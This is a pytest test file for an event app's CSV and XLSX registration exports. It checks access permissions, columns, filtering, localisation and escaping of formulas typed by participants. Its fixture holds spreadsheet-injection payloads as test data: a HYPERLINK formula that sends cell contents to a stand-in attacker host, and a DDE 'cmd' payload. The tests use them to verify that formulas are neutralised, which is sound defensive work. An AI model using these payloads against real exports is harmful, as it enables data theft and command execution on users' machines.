import csv
import io
from datetime import date, datetime
from zoneinfo import ZoneInfo

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from events import exports
from events.models import Event, Question, Registration
from events.services import registrations as reg_services
from tests.factories import EventFactory, OrganizerFactory, UserFactory

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'


def export_url(event, fmt, **query):
    url = reverse(f"registration_admin:registration_export_{fmt}", kwargs={"pk": event.pk})
    if query:
        from urllib.parse import urlencode

        url += "?" + urlencode(query)
    return url


@pytest.fixture
def export_event(city, organizer):
    event = EventFactory(city=city, capacity=2, title="Neighbours' table")
    diet = Question.objects.create(
        event=event, label="Diet", kind=Question.Kind.MULTIPLE_CHOICE, position=0,
        label_translations={"es": "Dieta"},
        choices=[
            {"value": "veg", "label": "Vegetarian", "translations": {"es": "Vegetariana"}},
            {"value": "gf", "label": "Gluten-free"},
        ],
    )
    note = Question.objects.create(event=event, label="Anything else?", kind=Question.Kind.SHORT_TEXT, position=1)
    bring = Question.objects.create(event=event, label="Bring a friend?", kind=Question.Kind.YES_NO, position=2)

    def add(name, email, answers, at):
        registration = reg_services.registration_create(
            event=event, user=UserFactory(full_name=name, email=email), consent_version="v1", answers=answers
        )
        Registration.objects.filter(pk=registration.pk).update(created_at=at)
        return registration

    utc = ZoneInfo("UTC")
    add("Ilze Kalniņa", "ilze@example.org", {diet.pk: ["veg", "gf"], bring.pk: False}, datetime(2026, 1, 10, 8, 5, tzinfo=utc))
    add(EVIL_NAME, "evil@example.org", {note.pk: "+cmd|' /C calc'!A0", bring.pk: True}, datetime(2026, 1, 11, 22, 30, tzinfo=utc))
    add("Wait Listed", "wait@example.org", {}, datetime(2026, 1, 12, 9, 0, tzinfo=utc))
    return event


def read_csv(response):
    text = response.content.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text)))


def read_xlsx(response):
    sheet = load_workbook(io.BytesIO(response.content)).active
    return sheet, [[cell.value for cell in row] for row in sheet.iter_rows()]


# --------------------------------------------------------------------------- permissions matrix


ROLES = ["anonymous", "participant", "trainer", "organizer_of_riga", "organizer_of_ravenna", "staff"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("role", ROLES)
def test_only_the_city_organizers_and_staff_can_export(client, city, other_city, role, fmt):
    event = EventFactory(city=other_city)
    reg_services.registration_create(event=event, user=UserFactory(full_name="Secret Person"), consent_version="v1")
    trainer = UserFactory()
    event.trainers.add(trainer)
    users = {
        "anonymous": None,
        "participant": UserFactory(),
        "trainer": trainer,
        "organizer_of_riga": OrganizerFactory(city=city),
        "organizer_of_ravenna": OrganizerFactory(city=other_city),
        "staff": UserFactory(is_staff=True),
    }
    if users[role]:
        client.force_login(users[role])

    response = client.get(export_url(event, fmt))

    if role == "anonymous":
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("account_login"))
    elif role in ("organizer_of_ravenna", "staff"):
        assert response.status_code == 200
        assert response["Content-Disposition"].startswith("attachment;")
    else:
        assert response.status_code == 403
        assert b"Secret Person" not in response.content


# --------------------------------------------------------------------------- CSV


def test_csv_has_one_column_per_question_and_joined_choices(client, organizer, export_event):
    client.force_login(organizer)
    response = client.get(export_url(export_event, "csv"))
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    rows = read_csv(response)
    header = rows[0]
    assert header == [
        "Name", "Email", "Status", "Waiting position", "Registered at (Europe/Riga)", "Source",
        "Cancellation reason", "Diet", "Anything else?", "Bring a friend?",
    ]
    ilze = next(r for r in rows if r[1] == "ilze@example.org")
    assert ilze[0] == "Ilze Kalniņa"
    assert ilze[2] == "Confirmed"
    assert ilze[4] == "2026-01-10 10:05"  # 08:05 UTC is 10:05 in Riga in winter
    assert ilze[7] == "Vegetarian; Gluten-free"
    assert ilze[9] == "No"
    waiting = next(r for r in rows if r[1] == "wait@example.org")
    assert waiting[2] == "On the waiting list" and waiting[3] == "1"


def test_csv_neutralises_formulas_typed_by_participants(client, organizer, export_event):
    client.force_login(organizer)
    rows = read_csv(client.get(export_url(export_event, "csv")))
    evil = next(r for r in rows if r[1] == "evil@example.org")
    assert evil[0] == "'" + EVIL_NAME
    assert evil[8] == "'+cmd|' /C calc'!A0"
    for row in rows:
        for cell in row:
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell


def test_csv_exports_only_the_filtered_list(client, organizer, export_event):
    client.force_login(organizer)
    rows = read_csv(client.get(export_url(export_event, "csv", status="waiting")))
    assert [r[1] for r in rows[1:]] == ["wait@example.org"]
    rows = read_csv(client.get(export_url(export_event, "csv", q="ilze")))
    assert [r[1] for r in rows[1:]] == ["ilze@example.org"]


def test_export_is_an_attachment_named_after_the_event_and_the_day(client, organizer, export_event):
    client.force_login(organizer)
    for fmt in ("csv", "xlsx"):
        response = client.get(export_url(export_event, fmt))
        disposition = response["Content-Disposition"]
        assert disposition.startswith("attachment;")
        assert f"registrations-event-{export_event.pk}-" in disposition
        assert disposition.endswith(f'.{fmt}"')
        assert "no-store" in response["Cache-Control"]


def test_export_uses_the_organizers_language_for_labels(client, organizer, export_event):
    organizer.preferred_language = "es"
    organizer.save()
    client.force_login(organizer)
    rows = read_csv(client.get(export_url(export_event, "csv"), HTTP_ACCEPT_LANGUAGE="es"))
    assert "Dieta" in rows[0]
    ilze = next(r for r in rows if r[1] == "ilze@example.org")
    assert ilze[7].startswith("Vegetariana; ")


# --------------------------------------------------------------------------- XLSX


def test_xlsx_holds_the_same_table_with_real_dates(client, organizer, export_event):
    client.force_login(organizer)
    response = client.get(export_url(export_event, "xlsx"))
    assert response["Content-Type"] == exports.XLSX_MIMETYPE
    sheet, rows = read_xlsx(response)
    assert rows[0][7:] == ["Diet", "Anything else?", "Bring a friend?"]
    ilze = next(r for r in rows if r[1] == "ilze@example.org")
    assert ilze[4] == datetime(2026, 1, 10, 10, 5)
    assert ilze[7] == "Vegetarian; Gluten-free"
    assert sheet.title == "Registrations"


def test_xlsx_neutralises_formulas_typed_by_participants(client, organizer, export_event):
    client.force_login(organizer)
    sheet, rows = read_xlsx(client.get(export_url(export_event, "xlsx")))
    evil_row = next(i for i, r in enumerate(rows, start=1) if r[1] == "evil@example.org")
    name_cell, answer_cell = sheet.cell(evil_row, 1), sheet.cell(evil_row, 9)
    assert name_cell.value == "'" + EVIL_NAME and name_cell.data_type == "s"
    assert answer_cell.value == "'+cmd|' /C calc'!A0" and answer_cell.data_type == "s"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)


def test_export_costs_the_same_queries_for_3_or_40_registrations(
    client, city, organizer, django_assert_max_num_queries
):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    small, large = EventFactory(city=city), EventFactory(city=city)
    for event, count in ((small, 3), (large, 40)):
        question = Question.objects.create(event=event, label="Q", kind=Question.Kind.SHORT_TEXT)
        for i in range(count):
            reg_services.registration_create(
                event=event, user=UserFactory(), consent_version="v1", answers={question.pk: f"a{i}"}
            )
    client.force_login(organizer)
    client.get(export_url(small, "xlsx"))
    with CaptureQueriesContext(connection) as baseline:
        client.get(export_url(small, "xlsx"))
    with django_assert_max_num_queries(len(baseline)):
        rows = read_csv(client.get(export_url(large, "csv")))
    assert len(rows) == 41


# --------------------------------------------------------------------------- the builders


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("+49 123", "'+49 123"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Anna", "Anna"),
        ("a=b", "a=b"),
        ("", ""),
        (3, 3),
        (None, None),
    ],
)
def test_neutralise(value, expected):
    assert exports.neutralise(value) == expected


def test_answer_text_keeps_a_choice_that_was_removed_and_reads_booleans():
    question = Question(kind=Question.Kind.SINGLE_CHOICE, choices=[{"value": "a", "label": "Apple"}])
    assert exports.answer_text(question, "a", "en") == "Apple"
    assert exports.answer_text(question, "gone", "en") == "gone"
    assert exports.answer_text(Question(kind=Question.Kind.YES_NO), True, "en") == "Yes"
    assert exports.answer_text(Question(kind=Question.Kind.SHORT_TEXT), None, "en") == ""


def test_xlsx_drops_control_characters_that_would_break_the_file():
    body = exports.table_to_xlsx(["Name"], [["Bell\x07 Person"]], title="Registrations: [draft]?")
    sheet = load_workbook(io.BytesIO(body)).active
    assert sheet["A2"].value == "Bell Person"
    assert sheet.title == "Registrations   draft"


def test_filename_uses_the_day_given():
    event = Event(pk=12)
    assert exports.export_filename(event=event, extension="csv", day=date(2026, 3, 3)) == (
        "registrations-event-12-2026-03-03.csv"
    )
